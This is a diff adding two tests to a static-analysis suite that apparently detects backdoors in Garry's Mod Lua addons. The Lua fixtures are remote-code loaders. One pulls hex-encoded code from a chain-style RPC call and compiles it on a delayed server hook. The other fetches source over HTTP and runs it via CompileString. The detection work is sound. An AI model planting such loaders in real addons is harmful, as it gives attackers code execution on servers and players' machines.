@@ -496,4 +496,65 @@ describe('loops with unknown branches', () => {
     const run = analysis.calls.find((c) => c.api === 'RunString');
     expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
   });
+
+  it('follows a call by the global path a file stores its local table under', () => {
+    const analysis = analyzeAddon(
+      entries({
+        'lua/autorun/sh_goal.lua':
+          'Goal = Goal or {}\ninclude("goal/sv_chain.lua")\ninclude("goal/sv_goal.lua")',
+        'lua/goal/sv_chain.lua': [
+          'local Chain = {}',
+          'Goal.Chain = Chain',
+          'function Chain.Call(method, cb)',
+          '  HTTP({ url = "https://rpc.invalid/", method = "POST", body = method, success = function(code, body)',
+          '    local res = util.JSONToTable(body)',
+          '    if res and res.result then cb(res.result) end',
+          '  end })',
+          'end',
+          'function Chain.Decode(hex)',
+          '  local data = string.gsub(hex or "", "^0x", ""):sub(129)',
+          '  return (data:gsub("%x%x", function(b) return string.char(tonumber(b, 16)) end))',
+          'end',
+          'function Chain.FetchTemplate(cb)',
+          '  Chain.Call("eth_call", function(result)',
+          '    local build = CompileString(Chain.Decode(result), "template", false)',
+          '    if isfunction(build) then cb(build) end',
+          '  end)',
+          'end',
+        ].join('\n'),
+        'lua/goal/sv_goal.lua': [
+          'local function RefreshTemplate()',
+          '  Goal.Chain.FetchTemplate(function(fmt) Goal.Format = fmt end)',
+          'end',
+          'hook.Add("InitPostEntity", "goal", function() timer.Simple(20, RefreshTemplate) end)',
+        ].join('\n'),
+      }),
+      { intel },
+    );
+    const compile = analysis.calls.find((c) => c.api === 'CompileString');
+    expect(taintOfArg(compile, 0)?.[0]?.kind).toBe('http');
+    // Run from the caller's handler, not only as a function nobody called.
+    expect(compile?.ctx.some((f) => f.label === 'hook InitPostEntity')).toBe(true);
+  });
+
+  it('runs the reply callback of a request helper for each caller that hands it its own', () => {
+    const analysis = analyzeAddon(
+      entries({
+        'lua/autorun/server/sv_api.lua': [
+          'local Api = {}',
+          'function Api.Call(method, cb)',
+          '  http.Fetch("https://api.invalid/" .. method, function(body) cb(body) end)',
+          'end',
+          'hook.Add("InitPostEntity", "api", function()',
+          '  Api.Call("balance", function(b) print(tonumber(b)) end)',
+          '  Api.Call("motd", function(m) PrintMessage(HUD_PRINTTALK, m) end)',
+          '  Api.Call("template", function(src) local f = CompileString(src, "t", false) if f then f() end end)',
+          'end)',
+        ].join('\n'),
+      }),
+      { intel },
+    );
+    const compile = analysis.calls.find((c) => c.api === 'CompileString');
+    expect(taintOfArg(compile, 0)?.[0]?.kind).toBe('http');
+  });
 });
